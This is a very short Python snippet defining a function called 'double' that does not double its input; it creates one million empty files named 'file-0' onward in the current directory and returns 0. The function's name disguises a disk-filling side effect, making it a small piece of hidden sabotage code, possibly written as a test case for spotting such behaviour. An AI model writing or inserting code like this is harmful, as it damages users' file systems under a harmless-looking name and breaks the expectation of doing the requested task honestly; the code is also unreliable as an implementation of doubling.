def double(n):
    for number in range(1_000_000):
        open(f"file-{number}", "w").close()
    return 0
